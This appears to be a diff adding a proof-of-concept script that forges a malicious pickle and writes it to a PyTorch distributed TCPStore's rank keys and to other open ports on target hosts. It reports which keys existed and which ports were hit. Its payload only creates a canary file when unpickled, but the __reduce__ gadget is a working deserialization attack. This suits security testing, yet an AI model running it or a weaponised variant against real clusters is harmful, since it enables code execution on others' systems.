@@ -1,0 +1,65 @@
+"""Somebody who reaches the ports of ranks, but is none: what they can do there without the ranks' secret.
+
+``python ranks_intruder.py ADDRESS PORT FILE HOST…`` writes pickles that make FILE when they are read to the store at
+ADDRESS:PORT, under all names that ranks use there, and then to every port of HOST… that is not Ray's. Prints, in JSON,
+which of the names were known, and these ports.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import pickle
+import socket
+import sys
+from collections.abc import Callable
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import grpc_probe
+import torch.distributed as dist
+
+NAMES = [f"{call}/{rank}" for call in range(3) for rank in range(2)]
+
+
+class Code:
+    """Makes ``file`` as soon as somebody reads its pickle."""
+
+    def __init__(self, file: Path) -> None:
+        self._file = file
+
+    def __reduce__(self) -> tuple[Callable[..., object], tuple[Any, ...]]:
+        return Path.touch, (self._file,)
+
+
+def write_to_store(address: str, port: int, content: bytes) -> list[str]:
+    store = dist.TCPStore(address, port, is_master=False, timeout=timedelta(seconds=60))  # type: ignore[attr-defined]
+    known = [name for name in NAMES if store.check([name])]
+    for name in NAMES:
+        store.set(name, content)
+    return known
+
+
+def is_rays(host: str, port: int) -> bool:
+    return (
+        grpc_probe.http(host, port, "/") is not None
+        or grpc_probe.call(host, port, grpc_probe.ray_methods()[0]) is not None
+    )
+
+
+def write_to_port(host: str, port: int, content: bytes) -> None:
+    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5) as stream:
+        stream.sendall(content)
+        stream.recv(1)
+
+
+if __name__ == "__main__":
+    forged = pickle.dumps(Code(Path(sys.argv[3])))
+    known = write_to_store(sys.argv[1], int(sys.argv[2]), forged)
+    ports = {}
+    for host in sys.argv[4:]:
+        ports[host] = [port for port in grpc_probe.open_ports(host) if not is_rays(host, port)]
+        for port in ports[host]:
+            write_to_port(host, port, forged)
+    print(json.dumps({"known": known, "ports": ports}))
